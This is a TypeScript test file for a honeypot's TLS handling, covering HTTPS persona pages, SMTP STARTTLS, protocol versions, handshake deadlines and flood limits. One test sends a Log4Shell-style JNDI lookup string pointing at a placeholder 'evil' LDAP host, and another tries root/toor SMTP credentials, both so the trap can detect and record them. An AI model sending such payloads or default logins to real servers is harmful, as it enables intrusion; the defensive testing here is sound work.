/** TLS in the traps, by real clients: inside it the protocol of the port, and a bound on what handshakes may cost. */
import { X509Certificate } from 'node:crypto';
import { request } from 'node:https';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import { unixMs } from '@honeymesh/intel/time';
import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { makeIdentity } from '#enforcer/traps/identity-making.ts';
import type { TrapIdentity, TrapLimits } from '#enforcer/traps/messages.ts';
import { ending, eventually, hears, type LiveTrap, startLiveTrap } from '#test/support/trap-live.ts';

let identity: TrapIdentity;
let trap: LiveTrap | undefined;
beforeAll(async () => {
  identity = await makeIdentity(unixMs(Date.now()));
});
afterEach(() => trap?.stop());

function start(port: number, limits: Partial<TrapLimits> = {}): LiveTrap {
  trap = startLiveTrap(port, identity, limits);
  return trap;
}

/** A ClientHello of TLS 1.2 as OpenSSL sends it. */
let clientHello: Buffer;
beforeAll(async () => {
  const { createServer, connect } = await import('node:net');
  clientHello = await new Promise(resolve => {
    const server = createServer(socket => {
      socket.once('data', (bytes: Buffer) => {
        socket.destroy();
        server.close();
        resolve(bytes);
      });
    });
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      connectTls({ socket: connect(port, '127.0.0.1'), maxVersion: 'TLSv1.2' }).on('error', () => {});
    });
  });
});

function secure(live: LiveTrap, options: ConnectionOptions = {}): TLSSocket {
  const socket = connectTls({ port: live.port, host: '127.0.0.1', rejectUnauthorized: false, ...options });
  socket.on('error', () => {});
  return socket;
}

const secured = (socket: TLSSocket): Promise<void> =>
  new Promise((resolve, reject) => {
    socket.once('secureConnect', resolve);
    socket.once('error', reject);
  });

test('a page over https, with the certificate of the persona; whose client it is stands in the receipt', async () => {
  const live = start(443);
  const body = await new Promise<string>((resolve, reject) => {
    const asked = request({ port: live.port, host: '127.0.0.1', path: '/', rejectUnauthorized: false, agent: false, servername: 'www.example.org' }, answer => {
      const certificate = (answer.socket as TLSSocket).getPeerX509Certificate();
      expect(certificate?.subject).toBe(new X509Certificate(identity.tlsCertificate).subject);
      expect(answer.headers.server).toMatch(/Apache|nginx/);
      let text = '';
      answer.on('data', chunk => {
        text += chunk;
      });
      answer.on('end', () => resolve(text));
    });
    asked.on('error', reject);
    asked.end();
  });
  expect(body).toContain('html');
  await eventually('its row was told', () => live.of('ended').length === 1);
  const [ended] = live.of('ended');
  expect(ended).toMatchObject({ protocol: 'https', receipt: { transcript: [{ kind: 'request', text: 'GET /' }] } });
  expect(ended?.receipt.fingerprints).toEqual(
    expect.arrayContaining([
      { name: 'ja4', value: expect.stringMatching(/^t13d/) },
      { name: 'sni', value: 'www.example.org' },
    ]),
  );
  await eventually('TLS let go of it', () => live.tls.count() === 0);
});

test('what is hostile inside TLS is told at once', async () => {
  const live = start(443);
  const socket = secure(live);
  await secured(socket);
  socket.write(`GET /?x=\${jndi:ldap://evil/a} HTTP/1.1\r\nHost: x\r\n\r\n`);
  await eventually('it was told', () => live.of('content').length === 1);
  expect(live.of('content')[0]).toMatchObject({ protocol: 'https' });
  socket.destroy();
});

test('STARTTLS: smtp in the clear, then inside TLS, where it is not offered again', async () => {
  const live = start(25);
  const plain = live.connect();
  await hears(plain, /^220 /);
  plain.write('EHLO me\r\n');
  expect(await hears(plain, /250 .*\r\n$/)).toContain('STARTTLS');
  plain.write('STARTTLS\r\n');
  await hears(plain, /^220 .*\r\n$/);
  const socket = connectTls({ socket: plain, rejectUnauthorized: false });
  await secured(socket);
  socket.write('EHLO me\r\n');
  expect(await hears(socket, /250 .*\r\n$/)).not.toContain('STARTTLS');
  socket.write('AUTH LOGIN\r\n');
  await hears(socket, /334 VXNlcm5hbWU6/);
  socket.write(`${Buffer.from('root').toString('base64')}\r\n`);
  await hears(socket, /334 UGFzc3dvcmQ6/);
  socket.write(`${Buffer.from('toor').toString('base64')}\r\n`);
  await hears(socket, /535 /);
  socket.write('QUIT\r\n');
  await hears(socket, /221 /);
  await eventually('its row was told', () => live.of('ended').length === 1);
  expect(live.of('ended')[0]?.receipt).toMatchObject({ end: 'done', credentials: [{ user: 'root', secret: 'toor' }] });
});

describe('a handshake of', () => {
  test.each([
    ['TLS 1.0', { maxVersion: 'TLSv1', minVersion: 'TLSv1', ciphers: 'DEFAULT:@SECLEVEL=0' }, 'TLSv1'],
    ['TLS 1.1', { maxVersion: 'TLSv1.1', minVersion: 'TLSv1.1', ciphers: 'DEFAULT:@SECLEVEL=0' }, 'TLSv1.1'],
    ['TLS 1.2', { maxVersion: 'TLSv1.2' }, 'TLSv1.2'],
    ['TLS 1.3', {}, 'TLSv1.3'],
  ] as const)('%s is answered', async (_, options, version) => {
    const socket = secure(start(443), options);
    await secured(socket);
    expect(socket.getProtocol()).toBe(version);
    socket.destroy();
  });

  test.each([
    ['http/1.1 beside others', ['h2', 'http/1.1'], 'http/1.1'],
    ['h2 alone', ['h2'], false],
    ['something else', ['acme-tls/1'], false],
  ])('a client that offers %s', async (_, offered, chosen) => {
    const socket = secure(start(443), { ALPNProtocols: offered });
    await secured(socket);
    expect(socket.alpnProtocol).toBe(chosen);
    socket.destroy();
  });
});

test('keys are agreed on as by an OpenSSL of the persona, not by that of Node', async () => {
  const socket = secure(start(443));
  await secured(socket);
  expect(socket.getEphemeralKeyInfo()).toMatchObject({ name: 'X25519' });
  socket.destroy();
});

test('a handshake that goes nowhere ends by the deadline of a message', async () => {
  const live = start(443, { deadlineMs: 400 });
  const socket = live.connect();
  socket.write(clientHello);
  await hears(socket, /./s);
  expect(await ending(socket)).toBe('ECONNRESET');
  expect(live.of('ended')[0]?.receipt).toMatchObject({ end: 'deadline' });
  expect(live.tls.count()).toBe(0);
});

test('a handshake that is broken ends quietly, and is told as malformed', async () => {
  const live = start(443);
  const socket = live.connect();
  socket.write(clientHello);
  await hears(socket, /./s);
  socket.write(Buffer.from('\x16\x03\x03\0\x10this is no such thing', 'latin1'));
  await eventually('its row was told', () => live.of('ended').length === 1);
  expect(live.of('ended')[0]?.receipt.transcript.at(-1)).toMatchObject({ kind: 'malformed', text: expect.stringMatching(/^TLS: [A-Z0-9_]+$/) });
  expect(live.faults).toEqual([]);
  expect(live.tls.count()).toBe(0);
  expect(live.server.sessions()).toBe(0);
});

test('who leaves in the middle of a handshake leaves nothing behind', async () => {
  const live = start(443);
  for (let times = 0; times < 10; times++) {
    const socket = live.connect();
    socket.write(clientHello);
    socket.once('data', () => socket.resetAndDestroy());
  }
  await eventually('all rows were told', () => live.of('ended').length === 10);
  expect(live.tls.count()).toBe(0);
  expect(live.faults).toEqual([]);
});

test('a flood of handshakes takes its share of the loop and no more', async () => {
  const live = start(443, { sessionsPerSource: 4_000 });
  const sockets = Array.from({ length: 600 }, () => live.connect());
  for (const socket of sockets) socket.write(clientHello);
  await eventually('all were told', () => live.of('touch').length === 600);
  await eventually('most were turned away', () => live.of('ended').filter(({ receipt }) => receipt.end === 'full').length > 300);
  expect(live.tls.count()).toBeLessThan(256);
  for (const socket of sockets) socket.destroy();
  await eventually('all are gone', () => live.server.sessions() === 0);
  expect(live.tls.count()).toBe(0);
  await sleep(50);
  const next = secure(live);
  await secured(next); // who comes then is served as ever
  next.destroy();
});
